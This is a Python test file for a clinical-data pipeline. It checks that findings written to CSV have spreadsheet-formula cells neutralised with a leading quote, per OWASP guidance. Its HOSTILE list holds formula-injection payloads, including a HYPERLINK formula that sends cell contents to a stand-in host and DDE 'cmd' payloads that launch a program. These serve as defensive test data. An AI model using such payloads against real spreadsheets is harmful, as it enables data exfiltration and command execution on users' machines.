"""Issue 21 item 10: cells of findings.csv that a spreadsheet would run are neutralised
(OWASP: a leading single quote); plain numbers, negative ones included, are not."""

import csv

import pandas as pd

from adam import pipeline
from adam.findings import Finding
from adam.io import write_dataset
from adam.metadata import Dataset
from adam.spreadsheet import neutralise
from checks.report import write_findings_csv

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_neutralise():
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for text in ("-1.5", "-3", "+4", "-2e-05", ".5", "Café", "a=b", "", " =1"):
        assert neutralise(text) == text
    assert neutralise(None) is None and neutralise(-1.0) == -1.0


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_findings_csv_cells(tmp_path):
    found = [Finding(h, "R-1", "error", h, usubjid=h, variable=h, value=h) for h in HOSTILE]
    found.append(Finding("ADSL", "R-2", "warning", "-1 is below 0", usubjid="S-1", variable="AGE", value="-1"))
    rows = _rows(write_findings_csv(found, tmp_path / "f.csv"))
    risky = [r for r in rows if r["rule_id"] == "R-1"]
    assert len(risky) == len(HOSTILE)
    for row in risky:
        for col in ("dataset", "usubjid", "variable", "value", "message"):
            assert row[col].startswith("'") and row[col][1:] in HOSTILE, (col, row[col])
    plain = next(r for r in rows if r["rule_id"] == "R-2")
    assert plain["value"] == "-1" and plain["message"] == "'-1 is below 0"   # text, not a number


def test_check_of_hostile_values(tmp_path):
    frame = pd.DataFrame({"STUDYID": ["S1"], "USUBJID": ['=HYPERLINK("http://x.test","x")'],
                          "SUBJID": ["1"], "SITEID": ["01"], "AGE": [50.0], "AGEU": ["YEARS"],
                          "SEX": ["@SUM(1+1)"], "RACE": ["WHITE"], "ARM": ["A"], "TRT01P": ["A"],
                          "ITTFL": ["-1"]})
    write_dataset(Dataset("ADSL", frame, "Subject-Level Analysis Dataset"), tmp_path / "adam" / "adsl.xpt")
    pipeline.check(None, adam=tmp_path / "adam", findings_csv=tmp_path / "f.csv", expectations=False)
    rows = _rows(tmp_path / "f.csv")
    sex = next(r for r in rows if r["variable"] == "SEX" and r["value"])
    assert sex["value"] == "'@SUM(1+1)" and sex["usubjid"] == "'" + frame.USUBJID[0]
    flag = next(r for r in rows if r["variable"] == "ITTFL" and r["value"])
    assert flag["value"] == "-1"                                 # a number stays a number
    for row in rows:
        assert not any(v.startswith(("=", "@", "+", "\t", "\r")) for v in row.values()), row
